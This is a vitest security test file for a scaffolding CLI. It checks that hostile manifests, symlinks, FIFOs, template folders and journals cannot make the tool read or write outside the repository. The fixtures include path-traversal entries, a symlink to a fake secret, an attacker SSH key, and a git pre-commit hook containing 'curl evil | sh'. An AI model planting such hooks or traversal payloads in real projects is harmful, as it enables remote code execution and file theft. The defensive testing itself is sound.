// Confinement, tested as an attacker would: a committed manifest, symlink, template folder or
// journal tries to make a run read or write outside the repository. Each attack must end in
// one clear line (exit 2), the repository unchanged and the victim outside untouched.
import { spawnSync } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hashContent } from '../src/engine/manifest.js';
import { leftovers, snapshot } from './helpers/repo-state.js';
import { CREATE_BIN, INFRA_STACK_BIN, infraStack, runCli } from './helpers/stack.js';

const work = mkdtempSync(join(tmpdir(), 'infra-stack-attacks-'));
const base = join(work, 'base');
const victimDir = join(work, 'victim');
afterAll(() => rmSync(work, { recursive: true, force: true }));

beforeAll(() => {
  const r = runCli(CREATE_BIN, [base, '--yes', '--no-git', '--no-install']);
  if (r.code !== 0) throw new Error(r.stderr);
  rmSync(join(base, 'certs'), { recursive: true });
});

let serial = 0;
/** A copy of the stack, and a fresh victim folder outside it holding a.txt. */
function repo(): { dir: string } {
  const dir = join(work, `repo-${++serial}`);
  cpSync(base, dir, { recursive: true });
  rmSync(victimDir, { recursive: true, force: true });
  mkdirSync(victimDir);
  writeFileSync(join(victimDir, 'a.txt'), 'victim\n');
  return { dir };
}

function withManifestEntry(dir: string, path: string, hash: string): void {
  const file = join(dir, '.infra-stack/manifest.json');
  const manifest = JSON.parse(readFileSync(file, 'utf8'));
  manifest.files[path] = hash;
  writeFileSync(file, JSON.stringify(manifest, null, 2));
}

/** Runs `update` (and `--dry-run`): exit 2, one line matching `message`, nothing changed anywhere. */
function refused(dir: string, message: RegExp, args = ['update']): void {
  const before = snapshot(dir);
  const victim = snapshot(victimDir);
  for (const extra of [['--dry-run'], []]) {
    const r = infraStack(dir, ...args, ...extra);
    expect(r.code, r.stderr).toBe(2);
    expect(r.stderr).toMatch(/^error: [^\n]+\n$/);
    expect(r.stderr).toMatch(message);
    expect(r.stdout).toBe('');
  }
  expect(snapshot(dir)).toEqual(before);
  expect(snapshot(victimDir)).toEqual(victim);
}

describe('manifest entries outside the repository are refused, naming them', () => {
  const hash = hashContent('victim\n');
  for (const [name, entry] of [
    ['a ../ path', '../victim/a.txt'],
    ['a deeper ../ path', 'services/../../victim/a.txt'],
    ['an absolute path', `${victimDir}/a.txt`],
    ['/dev/zero', '../../../../../../dev/zero'],
    ['a path with a newline', 'a\nUNCHANGED b'],
    ['a path into .git', '.git/hooks/pre-commit'],
    ['a path into .git, in capitals (case-insensitive disks)', '.GIT/hooks/pre-commit'],
    ['the journal', '.infra-stack/journal.json'],
  ] as const) {
    it(name, () => {
      const { dir } = repo();
      withManifestEntry(dir, entry, hash);
      refused(dir, /^error: Invalid \.infra-stack\/manifest\.json files: .*Allowed: /);
    });
  }

  it('a path through a symlinked folder', () => {
    const { dir } = repo();
    symlinkSync(victimDir, join(dir, 'linked'));
    withManifestEntry(dir, 'linked/a.txt', hash);
    refused(dir, /linked is a symbolic link: infra-stack never follows links/);
  });
});

describe('hostile manifests: one line, exit 2, nothing written', () => {
  for (const [name, text, field] of [
    ['not JSON', '{"files": ', /manifest\.json \(the whole file\)/],
    ['files is a list', '{"version":"1","files":["a"]}', /manifest\.json files: /],
    ['a hash that is not a sha256', '{"version":"1","files":{"README.md":"md5-x"}}', /files\["README\.md"\]/],
    ['no version', '{"files":{}}', /manifest\.json version/],
    ['answers is a string', '{"version":"1","files":{},"answers":"x"}', /manifest\.json answers/],
    ['not UTF-8', Buffer.from([0x7b, 0xff, 0x7d]), /manifest\.json is not UTF-8/],
  ] as const) {
    it(name, () => {
      const { dir } = repo();
      writeFileSync(join(dir, '.infra-stack/manifest.json'), text);
      refused(dir, field);
    });
  }
});

describe('symbolic links in the repository are never followed', () => {
  it('README.md -> /dev/zero: refused at once (even --dry-run), nothing read', () => {
    const { dir } = repo();
    rmSync(join(dir, 'README.md'));
    symlinkSync('/dev/zero', join(dir, 'README.md'));
    const t0 = Date.now();
    refused(dir, /README\.md is a symbolic link/);
    expect(Date.now() - t0).toBeLessThan(5000);
  });

  it('README.md -> /dev/stdin: refused, no hang', () => {
    const { dir } = repo();
    rmSync(join(dir, 'README.md'));
    symlinkSync('/dev/stdin', join(dir, 'README.md'));
    // stdin is a pipe nobody writes to: reading it would wait forever.
    const r = spawnSync(process.execPath, [INFRA_STACK_BIN, 'update', '--dry-run', '--dir', dir], { encoding: 'utf8', timeout: 10_000 });
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(/README\.md is a symbolic link/);
  });

  it('a FIFO where a generated file belongs: refused, no hang', () => {
    const { dir } = repo();
    rmSync(join(dir, 'Makefile'));
    spawnSync('mkfifo', [join(dir, 'Makefile')]);
    refused(dir, /Makefile is not a regular file/);
  });

  it('a committed infra-stack.yaml that is a link to a file elsewhere is not read', () => {
    const { dir } = repo();
    cpSync(join(dir, 'infra-stack.yaml'), join(victimDir, 'stack.yaml'));
    rmSync(join(dir, 'infra-stack.yaml'));
    symlinkSync(join(victimDir, 'stack.yaml'), join(dir, 'infra-stack.yaml'));
    refused(dir, /infra-stack\.yaml is a symbolic link/, ['add', 'service', 'billing']);
    // status and check read it as every other command does: not through the link.
    for (const command of ['status', 'check']) {
      const r = infraStack(dir, command);
      expect(r.code, r.stderr).toBe(2);
      expect(r.stderr).toMatch(/^error: infra-stack\.yaml is a symbolic link[^\n]+\n$/);
      expect(r.stdout).toBe('');
    }
  });

  it('a symlinked folder (nginx -> elsewhere): nothing lands outside', () => {
    const { dir } = repo();
    rmSync(join(dir, 'nginx'), { recursive: true });
    symlinkSync(victimDir, join(dir, 'nginx'));
    refused(dir, /nginx is a symbolic link/);
  });

  it('a symlinked .env is refused, the link and its target kept', () => {
    const { dir } = repo();
    writeFileSync(join(victimDir, '.env'), 'MINE=1\n');
    rmSync(join(dir, '.env'));
    symlinkSync(join(victimDir, '.env'), join(dir, '.env'));
    refused(dir, /\.env is a symbolic link/);
  });

  it('a symlinked .infra-stack folder: no lock, journal or manifest is written through it', () => {
    const { dir } = repo();
    cpSync(join(dir, '.infra-stack'), join(victimDir, 'state'), { recursive: true });
    rmSync(join(dir, '.infra-stack'), { recursive: true });
    symlinkSync(join(victimDir, 'state'), join(dir, '.infra-stack'));
    refused(dir, /\.infra-stack is a symbolic link/, ['add', 'service', 'billing']);
  });

  it('a committed symlink plus an in-repo template folder cannot write outside (authorized_keys)', () => {
    const { dir } = repo();
    mkdirSync(join(dir, 'tpl/base'), { recursive: true });
    mkdirSync(join(dir, 'tpl/base/ssh'));
    writeFileSync(join(dir, 'tpl/base/ssh/authorized_keys'), 'ssh-ed25519 AAAA attacker\n');
    symlinkSync(victimDir, join(dir, 'ssh'));
    writeFileSync(join(dir, 'infra-stack.yaml'), readFileSync(join(dir, 'infra-stack.yaml'), 'utf8') + 'templates: tpl\n');
    refused(dir, /ssh is a symbolic link/);
  });
});

describe('template folders', () => {
  const team = (setup: (folder: string) => void) => {
    const folder = join(work, `team-${++serial}`);
    mkdirSync(join(folder, 'base'), { recursive: true });
    writeFileSync(join(folder, 'base/CODEOWNERS'), '* @acme\n');
    setup(folder);
    return folder;
  };
  const createWith = (folder: string) => {
    const target = join(work, `new-${++serial}`);
    const r = spawnSync(process.execPath, [CREATE_BIN, target, '--yes', '--no-git', '--no-install', '--templates', folder], {
      encoding: 'utf8',
      timeout: 10_000,
    });
    expect(r.status, r.stderr).toBe(2);
    expect(r.stderr).toMatch(/^error: [^\n]+\n$/);
    expect(() => readFileSync(target)).toThrow(/ENOENT/);
    return r.stderr;
  };

  it('a symlink inside (base/leak -> a secret) is refused, nothing copied', () => {
    const secret = join(work, 'shadow');
    writeFileSync(secret, 'root:secret\n', { mode: 0o600 });
    const folder = team((f) => symlinkSync(secret, join(f, 'base/leak')));
    expect(createWith(folder)).toMatch(/base\/leak" is a symbolic link; a template folder may hold only regular files and folders/);
  });

  it('a symlink loop inside is refused', () => {
    const folder = team((f) => symlinkSync('.', join(f, 'base/loop')));
    expect(createWith(folder)).toMatch(/base\/loop" is a symbolic link/);
  });

  it('a FIFO inside is refused at once, even with --dry-run (no hang)', () => {
    const folder = team((f) => spawnSync('mkfifo', [join(f, 'base/pipe')]));
    expect(createWith(folder)).toMatch(/base\/pipe" is not a regular file/);
  });

  it('a template file name with a newline is refused', () => {
    const folder = team((f) => writeFileSync(join(f, 'base/x\nUNCHANGED y'), 'x'));
    expect(createWith(folder)).toMatch(/is a path with a control character/);
  });

  it('a template that would write into .git/ is refused', () => {
    const folder = team((f) => {
      mkdirSync(join(f, 'base/.git/hooks'), { recursive: true });
      writeFileSync(join(f, 'base/.git/hooks/pre-commit'), '#!/bin/sh\ncurl evil | sh\n');
    });
    expect(createWith(folder)).toMatch(/\.git\/hooks\/pre-commit" is inside \.git\/ or \.infra-stack\//);
  });

  it('infra-stack.yaml alone cannot point outside the repository (templates: /home/... with docker/config.json)', () => {
    const { dir } = repo();
    mkdirSync(join(victimDir, 'docker'));
    writeFileSync(join(victimDir, 'docker/config.json'), '{"auths":{"x":{"auth":"c2VjcmV0"}}}\n');
    writeFileSync(join(dir, 'infra-stack.yaml'), readFileSync(join(dir, 'infra-stack.yaml'), 'utf8') + `templates: ${victimDir}\n`);
    refused(dir, /a folder outside the repository; infra-stack\.yaml alone may only point inside it/);
  });
});

describe('the journal is input too', () => {
  it('a journal naming a file in .git/ is refused', () => {
    const { dir } = repo();
    const path = '.git/hooks/pre-commit';
    const journal = { state: 'staging', dirs: [], files: [{ path, temp: null, backup: '.git/hooks/.pre-commit.0123456789abcdef.infra-stack-tmp', hash: null }] };
    writeFileSync(join(dir, '.infra-stack/journal.json'), JSON.stringify(journal));
    const r = infraStack(dir, 'update');
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/^error: \.infra-stack\/journal\.json is damaged \(entry /);
  });

  it('a hostile journal naming a file outside is refused before anything is touched', () => {
    const { dir } = repo();
    const journal = { state: 'staging', dirs: [], files: [{ path: '../victim/a.txt', temp: null, backup: '../victim/.a.txt.0123456789abcdef.infra-stack-tmp', hash: null }] };
    writeFileSync(join(dir, '.infra-stack/journal.json'), JSON.stringify(journal));
    const before = snapshot(dir);
    const victim = snapshot(victimDir);
    const r = infraStack(dir, 'update');
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/^error: \.infra-stack\/journal\.json is damaged/);
    expect(snapshot(dir)).toEqual(before);
    expect(snapshot(victimDir)).toEqual(victim);
    expect(leftovers(dir)).toEqual(['.infra-stack/journal.json']);
  });
});
